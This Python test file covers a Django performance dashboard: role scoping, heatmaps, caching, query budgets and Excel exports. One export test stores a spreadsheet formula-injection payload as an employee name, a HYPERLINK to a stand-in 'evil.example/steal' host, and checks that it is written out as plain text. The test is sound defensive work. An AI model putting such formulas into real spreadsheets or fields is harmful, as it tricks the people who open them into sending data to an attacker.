"""The dashboard pages through the HTTP client: what each role sees, what it may not, how many
queries a page costs, the cache and the Excel exports."""

import datetime as dt
import io
import json
import re

import pytest
from django.core.cache import cache
from django.db import connection
from django.db.models import F
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from ingest.models import Order, Source, SyncRun, SyncStatus
from scoring.models import EmployeeScore
from scoring.services import compute_period
from tests.clock import at
from tests.dashboards.company import LAST_MONTH, MONTH_BEFORE
from tests.factories import OrderFactory, OrderNodeFactory

ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}

pytestmark = pytest.mark.django_db

# Queries a page may make, cache cold, whatever the size of the team: the session, the user and
# their role, the header (viewer, unread appeal notifications), the scored periods, then the
# page's own reads (a few per figure set, never one per person). Warm, those come from the cache.
# The company page's indicator coverage reads the sources and the share measured: two queries.
# The scorecard and the team page also look for reviews to write (reviews' reminders): one query
# while no review cycle is open. The team page's month to date reads the open month's provisional
# rows of its people, scoped by whom the user may see (the role and the rows): two queries.
# The header's unread notices: one query (then cached).
MAX_QUERIES = {"scorecard": 17, "drilldown": 17, "team": 19, "team_compare": 24, "company": 18}
MAX_QUERIES_WARM = 10
PEOPLE = ("王芳", "李强", "陈主管", "刘洋", "赵主管")


def _figures(response) -> dict:
    found = re.search(
        r'<script id="dashboard-figures" type="application/json">(.*?)</script>',
        response.content.decode(),
        re.S,
    )
    return json.loads(found.group(1))


def _scorecard_url(person, **query) -> str:
    url = reverse("dashboards:scorecard", args=[person.pk])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def _drilldown_url(person, code: str) -> str:
    return reverse("dashboards:drilldown", args=[person.pk, code]) + f"?period={LAST_MONTH.label}"


# ---------------------------------------------------------------------------------------------
# Scorecards


def test_own_scorecard_shows_the_score_every_indicator_and_no_colleague(
    scored, as_user, django_assert_max_num_queries
):
    client = as_user("east_b")
    with django_assert_max_num_queries(MAX_QUERIES["scorecard"]):
        response = client.get(reverse("dashboards:me"))
    page = response.content.decode()
    score = EmployeeScore.objects.get(
        employee=scored["east_b"], period_start=LAST_MONTH.start, is_current=True
    )
    assert response.status_code == 200
    assert f"{score.total:.1f}" in page and f'data-testid="grade">{score.grade}<' in page
    codes = set(re.findall(r'data-testid="indicator-row" data-indicator="([a-z_0-9]+)"', page))
    assert codes == set(score.indicators.values_list("indicator__code", flat=True)), (
        "one row per indicator the person was scored on"
    )
    assert "客户满意度" in page  # indicator names from the catalog, in Chinese by default
    # Colleagues appear only as averages: no other person's name anywhere on the page.
    assert [name for name in PEOPLE if name != "李强" and name in page] == []
    figures = _figures(response)
    radar = figures["radar"]["data"]
    assert [trace["name"] for trace in radar][1] == "李强"
    assert len(radar[1]["r"]) == len(codes) + 1  # the outline is closed
    trend = figures["trend"]["data"][1]
    assert trend["x"][-2:] == [MONTH_BEFORE.label, LAST_MONTH.label] and len(trend["x"]) == 6


def test_scorecard_shows_the_veto_and_the_change_from_last_period(scored, as_user):
    page = as_user("east_b").get(reverse("dashboards:me")).content.decode()
    assert 'data-testid="veto"' in page  # CSAT 3 is below its 3.5 floor
    assert 'data-indicator="csat" class="vetoed"' in page
    # The same work in September and October: no change on the response time.
    row = re.search(r'data-indicator="order_response_time".*?</tr>', page, re.S).group(0)
    assert "+0.0" in row


def test_scorecard_is_in_english_when_asked(scored, as_user):
    client = as_user("east_a")
    client.cookies["django_language"] = "en"
    page = client.get(reverse("dashboards:me")).content.decode()
    assert "Customer satisfaction (CSAT)" in page and "客户满意度" not in page
    assert '<html lang="en">' in page


def test_someone_of_a_team_perf_does_not_score_is_told_so_not_that_scores_are_pending(
    scored, as_user
):
    page = as_user("hr").get(reverse("dashboards:me"), HTTP_ACCEPT_LANGUAGE="en")
    text = page.content.decode()
    assert page.status_code == 200
    assert 'data-testid="team-not-scored"' in text and "is not a scored team" in text
    assert 'data-testid="no-scores"' not in text


def test_a_period_can_be_picked_and_an_unscored_one_says_so(scored, as_user):
    client = as_user("east_a")
    september = client.get(reverse("dashboards:me") + f"?period={MONTH_BEFORE}").content.decode()
    total = EmployeeScore.objects.get(
        employee=scored["east_a"], period_start=MONTH_BEFORE.start, is_current=True
    ).total
    assert f"{total:.1f}" in september
    assert 'data-testid="no-scores"' in client.get("/me/?period=2027-01").content.decode()
    assert client.get("/me/?period=october").status_code == 404


@pytest.mark.parametrize("period", ["9999-12", "0001-01", "1999-12"])
def test_a_period_outside_the_years_perf_scores_is_no_page_not_a_server_error(
    scored, as_user, period
):
    """Year 9999 has no month after it and year 1 none before: outside 2000–2100, no period."""
    for key, url in [
        ("east_a", "/me/"),
        ("east_manager", f"/people/{scored['east_a'].pk}/"),
        ("hr", reverse("dashboards:company")),
    ]:
        assert as_user(key).get(f"{url}?period={period}").status_code == 404


def test_an_account_without_an_employee_record_is_told_so(scored, as_user):
    response = as_user("admin").get(reverse("dashboards:me"))
    assert response.status_code == 200
    assert 'data-testid="no-employee"' in response.content.decode()


# ---------------------------------------------------------------------------------------------
# Who may see what: every role on every page


SCOPING = [
    # (who, page, whose, status)
    ("east_a", "scorecard", "east_a", 200),
    ("east_a", "scorecard", "east_b", 404),
    ("east_a", "scorecard", "south_a", 404),
    ("east_a", "drilldown", "east_a", 200),
    ("east_a", "drilldown", "east_b", 404),
    ("east_a", "team", None, 403),
    ("east_a", "team_export", None, 403),
    ("east_a", "company", None, 403),
    ("east_a", "company_export", None, 403),
    ("east_manager", "scorecard", "east_b", 200),
    ("east_manager", "scorecard", "south_a", 404),
    ("east_manager", "drilldown", "east_a", 200),
    ("east_manager", "drilldown", "south_a", 404),
    ("east_manager", "team", None, 200),
    ("east_manager", "team_export", None, 200),
    ("east_manager", "company", None, 403),
    ("east_manager", "company_export", None, 403),
    ("south_manager", "scorecard", "east_a", 404),
    ("south_manager", "scorecard", "south_a", 200),
    ("hr", "scorecard", "south_a", 200),
    ("hr", "drilldown", "east_a", 200),
    ("hr", "team", None, 200),
    ("hr", "team_export", None, 200),
    ("hr", "company", None, 200),
    ("hr", "company_export", None, 200),
    ("admin", "scorecard", "east_b", 200),
    ("admin", "company", None, 200),
]


@pytest.mark.parametrize(("who", "page", "whose", "status"), SCOPING)
def test_every_role_sees_only_its_scope(scored, as_user, who, page, whose, status):
    if page == "scorecard":
        url = _scorecard_url(scored[whose])
    elif page == "drilldown":
        url = _drilldown_url(scored[whose], "order_response_time")
    else:
        url = reverse(f"dashboards:{page}")
    assert as_user(who).get(url).status_code == status


def test_a_manager_cannot_open_another_team_by_id(scored, as_user):
    client = as_user("east_manager")
    south = scored["teams"]["south"]
    assert client.get(reverse("dashboards:team") + f"?team={south.pk}").status_code == 404
    # Not an id: letters, a superscript two ("²".isdigit() is true), a number past any bigint.
    for team in ("x", "%C2%B2", "9" * 30):
        assert client.get(reverse("dashboards:team") + f"?team={team}").status_code == 404
        assert client.get(reverse("dashboards:team_export") + f"?team={team}").status_code == 404
    url = reverse("dashboards:team_export") + f"?team={south.pk}"
    assert client.get(url).status_code == 404


def test_anonymous_visitors_are_sent_to_sign_in(scored, client):
    for url in (
        reverse("dashboards:me"),
        _scorecard_url(scored["east_a"]),
        _drilldown_url(scored["east_a"], "csat"),
        reverse("dashboards:team"),
        reverse("dashboards:company"),
        reverse("dashboards:company_export"),
    ):
        response = client.get(url)
        assert response.status_code == 302 and response.url.startswith(reverse("login"))


# ---------------------------------------------------------------------------------------------
# Team heatmap


def test_team_heatmap_has_one_row_per_member_and_a_summary(
    scored, as_user, django_assert_max_num_queries
):
    client = as_user("east_manager")
    with django_assert_max_num_queries(MAX_QUERIES["team"]):
        response = client.get(reverse("dashboards:team"))
    page = response.content.decode()
    heatmap = _figures(response)["heatmap"]
    members = {scored[key].pk for key in ("east_manager", "east_a", "east_b")}
    assert set(heatmap["layout"]["meta"]["rows"]) == members
    assert len(heatmap["data"][0]["z"]) == 3
    assert heatmap["data"][0]["zmid"] == 50
    assert page.count('data-testid="member-row"') == 3
    assert "刘洋" not in page and "赵主管" not in page  # the other team
    # Sorted by total, best first; the click opens the drill-down of the cell's person.
    totals = [
        EmployeeScore.objects.get(employee_id=pk, period_start=LAST_MONTH.start, is_current=True)
        for pk in heatmap["layout"]["meta"]["rows"]
    ]
    assert [s.total for s in totals] == sorted((s.total for s in totals), reverse=True)
    assert f'data-click-url="/people/{{row}}/indicators/{{column}}/?period={LAST_MONTH}"' in page
    assert 'data-testid="grade-table"' in page and 'data-testid="mean-table"' in page


def test_team_heatmap_sorts_by_a_tier_and_compares_with_another_period(
    scored, as_user, django_assert_max_num_queries
):
    client = as_user("east_manager")
    with django_assert_max_num_queries(MAX_QUERIES["team_compare"]):
        response = client.get(reverse("dashboards:team") + f"?sort=quality&compare={MONTH_BEFORE}")
    heatmap = _figures(response)["heatmap"]
    rows = heatmap["layout"]["meta"]["rows"]
    quality = [
        EmployeeScore.objects.get(employee_id=pk, period_start=LAST_MONTH.start, is_current=True)
        for pk in rows
    ]
    assert [s.quality for s in quality] == sorted((s.quality for s in quality), reverse=True)
    # The change view: cells are score differences, diverging around no change.
    assert heatmap["data"][0]["zmid"] == 0 and heatmap["data"][0]["zmin"] == -50
    assert MONTH_BEFORE.label in heatmap["data"][0]["hovertemplate"]


def test_hr_picks_any_team_and_pages_cost_the_same_for_any_team_size(scored, as_user):
    client = as_user("hr")
    url = reverse("dashboards:team")
    counts = []
    for team in (scored["teams"]["east"], scored["teams"]["south"]):
        cache.clear()
        with CaptureQueriesContext(connection) as queries:
            response = client.get(f"{url}?team={team.pk}")
        assert response.status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]  # 3 people or 1: the same queries
    south = scored["teams"]["south"]
    page = client.get(f"{url}?team={south.pk}").content.decode()
    assert "刘洋" in page and "王芳" not in page


def test_pages_read_from_the_cache_until_a_new_run(scored, as_user, django_assert_max_num_queries):
    client = as_user("east_manager")
    url = reverse("dashboards:team")
    client.get(url)
    with django_assert_max_num_queries(MAX_QUERIES_WARM):
        client.get(url)
    before = _figures(client.get(url))["heatmap"]["data"][0]["z"]
    # 李强 answers every October order within the hour; a new run publishes it.
    Order.objects.filter(merchandiser=scored["east_b"], submitted_at__gte=at(LAST_MONTH, 1)).update(
        confirmed_at=F("submitted_at") + dt.timedelta(minutes=30)
    )
    compute_period(LAST_MONTH)
    after = _figures(client.get(url))["heatmap"]["data"][0]["z"]
    assert after != before


# ---------------------------------------------------------------------------------------------
# Company overview


def test_an_overdue_node_reads_in_days_and_hours_and_links_to_the_drilldown_listing_it(
    scored, as_user
):
    """A node open since last month: overdue by days and hours, its order number a link to
    its merchandiser's node on-time drill-down of that month, searched by the order number."""
    node = OrderNodeFactory(
        order=OrderFactory(merchandiser=scored["east_a"], external_id="SO-FORGOTTEN"),
        started_at=at(LAST_MONTH, 3, 9),
        threshold_hours=8,
        completed_at=None,
    )
    client = as_user("hr")
    page = client.get(reverse("dashboards:company"), **ENGLISH).content.decode()
    row = re.search(
        r'<tr data-testid="overdue-row">(?:(?!</tr>).)*SO-FORGOTTEN.*?</tr>', page, re.S
    )
    hours = (timezone.now() - node.due_at).total_seconds() / 3600
    days, rest = divmod(round(hours), 24)
    assert f"<td>{days} d {rest} h</td>" in row.group(0)
    link = re.search(
        r'<a href="([^"]+)" data-testid="overdue-order">SO-FORGOTTEN</a>', row.group(0)
    )
    url = link.group(1).replace("&amp;", "&")
    assert url.startswith(
        reverse("dashboards:drilldown", args=[scored["east_a"].pk, "node_on_time_rate"])
    )
    found = client.get(url, **ENGLISH).content.decode()
    assert f'data-record-id="{node.pk}"' in found
    assert found.count('data-testid="record-row"') == 1


def test_company_overview_for_hr(scored, as_user, django_assert_max_num_queries):
    now = timezone.now()
    OrderNodeFactory(
        order=OrderFactory(merchandiser=scored["south_a"], external_id="SO-STUCK"),
        # Overdue whatever the weekday: 24 working hours fit in two weeks, holidays and all.
        started_at=now - dt.timedelta(days=14),
        threshold_hours=24,
        completed_at=None,
    )
    source = Source.objects.create(name="erp-test", kind="sql")
    SyncRun.objects.create(
        source=source, status=SyncStatus.SUCCEEDED, finished_at=now - dt.timedelta(hours=2)
    )
    client = as_user("hr")
    with django_assert_max_num_queries(MAX_QUERIES["company"]):
        response = client.get(reverse("dashboards:company"))
    page = response.content.decode()
    figures = _figures(response)
    east, south = scored["teams"]["east"], scored["teams"]["south"]
    assert set(figures["heatmap"]["layout"]["meta"]["rows"]) == {east.pk, south.pk}
    assert page.count('data-testid="team-row"') == 2
    assert figures["trend"]["data"][0]["x"][-1] == LAST_MONTH.label
    assert re.search(r'data-testid="overdue-nodes">1<', page)
    assert "SO-STUCK" in page
    assert 'data-testid="source-row"' in page and "erp-test" in page
    assert 'data-testid="appeals-tile"' in page  # the appeals app is installed


# ---------------------------------------------------------------------------------------------
# Drill-downs


def test_drilldown_lists_the_orders_behind_the_response_time_slowest_first(
    scored, as_user, django_assert_max_num_queries
):
    client = as_user("east_a")
    with django_assert_max_num_queries(MAX_QUERIES["drilldown"]):
        response = client.get(_drilldown_url(scored["east_a"], "order_response_time"))
    page = response.content.decode()
    rows = re.findall(
        r'<tr data-testid="record-row" data-record-type="(\w+)" data-record-id="(\d+)"'
        r'( class="flagged")?>\s*<td>([^<]+)</td>',
        page,
    )
    assert rows[0][3] == "SO-SLOW"
    assert all(record_type == "order" for record_type, *_rest in rows)
    assert rows[0][2]  # slower than the target: marked
    assert "SO-CANCELLED" not in page  # cancelled before anyone confirmed it: does not count
    assert len(rows) == 4


def test_drilldown_of_a_survey_says_why_there_is_no_list(scored, as_user):
    page = as_user("east_a").get(_drilldown_url(scored["east_a"], "collaboration_360"))
    assert 'data-testid="drilldown-note"' in page.content.decode()
    assert 'data-testid="record-row"' not in page.content.decode()


def test_drilldown_of_an_indicator_not_scored_is_not_found(scored, as_user):
    assert as_user("east_a").get(_drilldown_url(scored["east_a"], "nothing")).status_code == 404


def test_rows_carry_an_appeal_link_for_their_subject(scored, as_user):
    """Each drill-down record links to an appeal of the field behind the indicator, each
    scorecard indicator to an appeal of the indicator, named after what they appeal."""
    client = as_user("east_a")
    drill = client.get(_drilldown_url(scored["east_a"], "order_entry_accuracy")).content.decode()
    slow = scored["records"]["slow"]
    assert f"record_type=order&amp;record_id={slow.pk}&amp;field=" in drill
    card = client.get(reverse("dashboards:me"), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    employee = scored["east_a"].pk
    assert f"indicator=csat&amp;employee={employee}&amp;period=" in card
    assert 'aria-label="Appeal: Customer satisfaction (CSAT)"' in card


# ---------------------------------------------------------------------------------------------
# Exports


def test_team_table_exports_to_excel(scored, as_user):
    response = as_user("east_manager").get(reverse("dashboards:team_export"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert f'filename="team-{LAST_MONTH}.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.values)
    assert len(rows) == 4  # the header and three members
    assert {row[0] for row in rows[1:]} == {"陈主管", "王芳", "李强"}
    total = EmployeeScore.objects.get(
        employee=scored["east_a"], period_start=LAST_MONTH.start, is_current=True
    ).total
    # Name, number, team, level and whether scored, then the total, rounded as the page shows it.
    assert next(row for row in rows if row[0] == "王芳")[5] == round(total, 1)


def test_exports_hold_numbers_rounded_as_the_pages_show_them(scored, as_user):
    """Scores with one decimal, raw values as their unit is shown (ratings 1–5 two decimals),
    still numbers; read back from the file."""
    response = as_user("east_manager").get(reverse("dashboards:team_export"), **ENGLISH)
    rows = list(load_workbook(io.BytesIO(response.content)).active.values)
    header, wang = rows[0], next(row for row in rows if row[0] == "王芳")
    numbers = {name: value for name, value in zip(header, wang, strict=True) if value is not None}
    floats = {name: value for name, value in numbers.items() if isinstance(value, float)}
    assert floats, "the member has scores"
    for name, value in floats.items():
        rating = ("(CSAT)" in name or "360°" in name) and "Raw value" in name
        decimals = 2 if rating else 1
        assert value == round(value, decimals), (name, value)
    csat = EmployeeScore.objects.get(
        employee=scored["east_a"], period_start=LAST_MONTH.start, is_current=True
    ).indicators.get(indicator__code="csat")
    card = as_user("east_a").get(reverse("dashboards:me"), **ENGLISH).content.decode()
    shown = f"{csat.raw:.2f}/5"
    assert shown in card
    exported = numbers["Customer satisfaction (CSAT) · Raw value"]
    assert f"{exported:.2f}/5" == shown
    company = as_user("hr").get(reverse("dashboards:company_export") + f"?period={LAST_MONTH}")
    for sheet in load_workbook(io.BytesIO(company.content)).worksheets:
        for row in list(sheet.values)[1:]:
            assert all(v == round(v, 1) for v in row if isinstance(v, float)), row


def test_company_tables_export_to_excel(scored, as_user):
    response = as_user("hr").get(reverse("dashboards:company_export") + f"?period={LAST_MONTH}")
    workbook = load_workbook(io.BytesIO(response.content))
    teams, people = (list(sheet.values) for sheet in workbook.worksheets)
    assert {row[0] for row in teams[1:]} == {"华东跟单一组", "华南跟单二组"}
    assert len(people) == 1 + 5


def test_a_name_that_looks_like_a_formula_is_exported_as_text(scored, as_user):
    """An employee named ``=HYPERLINK(…)`` must not become a live link in HR's workbook."""
    attack = '=HYPERLINK("http://evil.example/steal","点击查看")'
    scored["east_a"].name = attack
    scored["east_a"].save()
    response = as_user("hr").get(reverse("dashboards:company_export") + f"?period={LAST_MONTH}")
    people = load_workbook(io.BytesIO(response.content)).worksheets[1]
    cells = [cell for row in people.iter_rows() for cell in row if cell.value == attack]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for row in people.iter_rows() for cell in row)


def test_a_name_with_a_control_character_still_exports(scored, as_user):
    """A vertical tab pasted from Word into a name: a workbook cannot hold it, so it is dropped,
    and the export does not fail for everyone else."""
    scored["east_a"].name = "王\x0b芳"
    scored["east_a"].save()
    client = as_user("hr")
    for url in (
        reverse("dashboards:company_export") + f"?period={LAST_MONTH}",
        reverse("dashboards:team_export") + f"?period={LAST_MONTH}&team={scored['east_a'].team_id}",
    ):
        response = client.get(url)
        assert response.status_code == 200
        people = load_workbook(io.BytesIO(response.content)).worksheets[-1]
        assert "王芳" in [cell.value for row in people.iter_rows() for cell in row]
